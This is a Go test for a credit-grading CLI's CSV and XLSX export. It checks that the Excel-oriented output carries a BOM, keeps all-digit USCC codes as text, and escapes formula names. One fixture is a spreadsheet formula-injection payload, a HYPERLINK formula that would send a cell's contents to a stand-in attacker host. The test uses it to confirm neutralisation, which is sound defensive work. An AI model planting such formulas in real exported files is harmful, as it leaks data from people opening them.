package main

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xuchang-hrss/creditsync/transform"
	"github.com/xuri/excelize/v2"
)

// grades for Excel: --excel writes a BOM and keeps an all-digit USCC as
// text; --format xlsx writes a workbook whose USCC cells are text; the
// plain CSV for programs stays plain.
func TestGradesForExcel(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	env := []string{"CREDITSYNC_DATA=" + dir}
	const digits = "124110024151189320" // a public talent centre: all digits
	register := filepath.Join(dir, "机构名录.csv")
	ch, err := transform.USCCCheckChar("91411002MA4000000")
	if err != nil {
		t.Fatal(err)
	}
	// A name from outside that Excel would run as a formula.
	const formula = `=HYPERLINK("http://evil.example/?"&A2,"详情")`
	text := "uscc,name,county_code,licensed_on,commitment_signed_on\n" + digits + ",许昌市魏都区人才交流中心,411002,2020-01-01,2020-02-01\n" +
		"91411002MA4000000" + string(ch) + `,"` + strings.ReplaceAll(formula, `"`, `""`) + `",411002,2020-01-01,2020-02-01` + "\n"
	if err := os.WriteFile(register, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{
		{"import", "institutions", register},
		{"evaluate", "--year", "2026", "--as-of", "2026-07-31", "--publicize-from", "2026-07-31"},
		{"confirm", "--on", "2026-08-07"},
	} {
		if r := runCLI(t, env, args...); r.code != 0 {
			t.Fatalf("%v: exit %d\n%s%s", args, r.code, r.stdout, r.stderr)
		}
	}
	plain := runCLI(t, env, "grades", "--on", "2026-08-07", "--format", "csv")
	if plain.code != 0 || strings.HasPrefix(plain.stdout, "\ufeff") || !strings.Contains(plain.stdout, "\n"+digits+",") {
		t.Errorf("plain CSV: exit %d\n%s", plain.code, plain.stdout)
	}
	forExcel := runCLI(t, env, "grades", "--on", "2026-08-07", "--format", "csv", "--excel")
	if forExcel.code != 0 || !strings.HasPrefix(forExcel.stdout, "\ufeffuscc,") || !strings.Contains(forExcel.stdout, `"=""`+digits+`"""`) {
		t.Errorf("CSV for Excel: exit %d\n%s", forExcel.code, forExcel.stdout)
	}
	if quoted := `"'` + strings.ReplaceAll(formula, `"`, `""`) + `"`; !strings.Contains(forExcel.stdout, quoted) {
		t.Errorf("CSV for Excel: the formula name not written as text %s:\n%s", quoted, forExcel.stdout)
	}
	if quoted := `,"` + strings.ReplaceAll(formula, `"`, `""`) + `"`; !strings.Contains(plain.stdout, quoted) {
		t.Errorf("plain CSV: the name not as stored %s:\n%s", quoted, plain.stdout)
	}
	book := runCLI(t, env, "grades", "--on", "2026-08-07", "--format", "xlsx")
	if book.code != 0 {
		t.Fatalf("xlsx: exit %d\n%s", book.code, book.stderr)
	}
	f, err := excelize.OpenReader(bytes.NewReader([]byte(book.stdout)))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheet := f.GetSheetName(0)
	if v, _ := f.GetCellValue(sheet, "A3"); v != digits {
		t.Errorf("USCC cell A3 %q, want %s", v, digits)
	}
	if typ, _ := f.GetCellType(sheet, "A3"); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
		t.Errorf("USCC cell A3 has type %v, want text", typ)
	}
	if r := runCLI(t, env, "grades", "--format", "json", "--excel"); r.code != exitUsage {
		t.Errorf("--excel with json: exit %d", r.code)
	}
}
